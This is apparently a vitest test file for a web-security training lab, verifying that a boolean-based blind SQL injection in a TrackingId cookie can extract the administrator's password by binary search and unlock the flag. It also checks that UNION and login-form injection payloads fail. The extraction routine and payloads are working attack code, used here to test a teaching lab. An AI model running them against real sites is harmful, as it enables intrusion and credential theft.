import { afterEach, describe, expect, it } from 'vitest';
import { showsFlag, startTestLab } from '../host/test-harness';

type TestLab = Awaited<ReturnType<typeof startTestLab>>;

/** The raw response the request editor shows below its form. */
function editorResponse(body: string): string {
  const section = /<section class="lab-response"[\s\S]*?<\/section>/.exec(body);
  expect(section).not.toBeNull();
  return section![0];
}

/** The lab's own content, without the platform's frame (whose objective text could change). */
function mainOf(body: string): string {
  const main = /<main[\s\S]*?<\/main>/.exec(body);
  expect(main).not.toBeNull();
  return main![0];
}

/** Visits the shop once so it hands out a TrackingId, and returns it. */
async function trackingIdOf(lab: TestLab): Promise<string> {
  const first = await lab.get('/');
  expect(mainOf(first.body)).not.toContain('Welcome back!');
  const id = lab.jar.get('TrackingId');
  expect(id).toMatch(/^[0-9a-f]{16}$/);
  return id!;
}

/**
 * A learner's oracle: one request from the request editor with an edited Cookie header.
 * True when the shop says "Welcome back!", that is when the injected condition holds.
 */
function oracle(lab: TestLab, trackingId: string) {
  let requests = 0;
  const ask = async (condition: string): Promise<boolean> => {
    requests += 1;
    const answer = await lab.editor({
      method: 'GET',
      path: '/',
      headers: `Cookie: TrackingId=${trackingId}' AND ${condition}--`,
    });
    expect(answer.status).toBe(200);
    return editorResponse(answer.body).includes('Welcome back!');
  };
  return { ask, count: () => requests };
}

/** Reads the administrator's password by binary search, as lesson 6 does with curl. */
async function extractAdminPassword(lab: TestLab, trackingId: string): Promise<{ password: string; requests: number }> {
  const { ask, count } = oracle(lab, trackingId);
  const secret = "(SELECT password FROM users WHERE username='administrator')";
  // Prove the yes/no channel first.
  expect(await ask('1=1')).toBe(true);
  expect(await ask('1=2')).toBe(false);
  // Length: the smallest n with LENGTH(secret) <= n.
  let lo = 1;
  let hi = 32;
  while (lo < hi) {
    const mid = Math.floor((lo + hi) / 2);
    if (await ask(`LENGTH(${secret}) > ${mid}`)) lo = mid + 1;
    else hi = mid;
  }
  const length = lo;
  let password = '';
  for (let i = 1; i <= length; i += 1) {
    // Printable ASCII, halved on every request.
    let low = 32;
    let high = 126;
    while (low < high) {
      const mid = Math.floor((low + high) / 2);
      if (await ask(`UNICODE(SUBSTR(${secret},${i},1)) > ${mid}`)) low = mid + 1;
      else high = mid;
    }
    password += String.fromCharCode(low);
  }
  return { password, requests: count() };
}

describe('lab web-sqli-blind-boolean', () => {
  let lab: TestLab;
  afterEach(() => lab.close());

  it('is solved by extracting the password through the "Welcome back!" oracle and signing in', async () => {
    lab = await startTestLab('web-sqli-blind-boolean');
    const trackingId = await trackingIdOf(lab);
    const again = await lab.get('/');
    expect(mainOf(again.body)).toContain('Welcome back!');

    const { password, requests } = await extractAdminPassword(lab, trackingId);
    expect(password).toMatch(/^[a-z0-9]{6}$/);
    // About seven questions per character, plus the length and the two checks.
    expect(requests).toBeLessThanOrEqual(2 + 5 + 6 * 7);

    // The same condition works from an ordinary request with a crafted Cookie header too.
    const direct = await lab.get('/', {
      cookie: `TrackingId=${trackingId}' AND SUBSTR((SELECT password FROM users WHERE username='administrator'),1,1)='${password[0]}'--`,
    });
    expect(mainOf(direct.body)).toContain('Welcome back!');

    const answer = await lab.post('/login', { username: 'administrator', password });
    expect(answer.status).toBe(200);
    expect(answer.body).toContain('Admin dashboard');
    expect(showsFlag(answer.body, lab.flag)).toBe(true);
  });

  it('never shows data or errors, and gives each start of the lab its own password', async () => {
    lab = await startTestLab('web-sqli-blind-boolean');
    const trackingId = await trackingIdOf(lab);
    const { password } = await extractAdminPassword(lab, trackingId);

    const other = await startTestLab('web-sqli-blind-boolean', lab.learner);
    try {
      const theirs = await extractAdminPassword(other, await trackingIdOf(other));
      expect(theirs.password).not.toBe(password);
      const reused = await other.post('/login', { username: 'administrator', password });
      expect(reused.status).toBe(401);
      expect(reused.body).not.toContain(other.flag);
    } finally {
      await other.close();
    }

    // A broken query and a UNION that would print data: same page, no welcome, no error, no data.
    for (const cookie of [
      `TrackingId=${trackingId}'`,
      `TrackingId=x' UNION SELECT password FROM users--`,
      `TrackingId=x' AND 1=2 UNION SELECT password FROM users WHERE username='administrator'--`,
    ]) {
      const answer = await lab.get('/', { cookie });
      expect(answer.status).toBe(200);
      expect(answer.body).not.toContain(password);
      expect(mainOf(answer.body)).not.toMatch(/error|syntax|unrecognized token/i);
      expect(answer.body).not.toContain(lab.flag);
    }
    // A database error is swallowed: the visitor is simply not recognised.
    const broken = await lab.get('/', { cookie: `TrackingId=${trackingId}'` });
    expect(mainOf(broken.body)).not.toContain('Welcome back!');
    // A made-up visitor id is simply not welcomed.
    const stranger = await lab.get('/', { cookie: 'TrackingId=0000000000000000' });
    expect(mainOf(stranger.body)).not.toContain('Welcome back!');
  });

  it('refuses guesses and injection at the sign-in form', async () => {
    lab = await startTestLab('web-sqli-blind-boolean');
    for (const attempt of [
      { username: 'administrator', password: 'admin1' },
      { username: "administrator'--", password: 'x' },
      { username: 'administrator', password: "' OR '1'='1" },
    ]) {
      const answer = await lab.post('/login', attempt);
      expect(answer.status).toBe(401);
      expect(answer.body).not.toContain(lab.flag);
    }
    const staff = await lab.post('/login', { username: 'kavya.reddy', password: 'filtercoffee' });
    expect(staff.body).toContain('Signed in as <strong>kavya.reddy</strong>');
    expect(staff.body).not.toContain(lab.flag);
  });
});
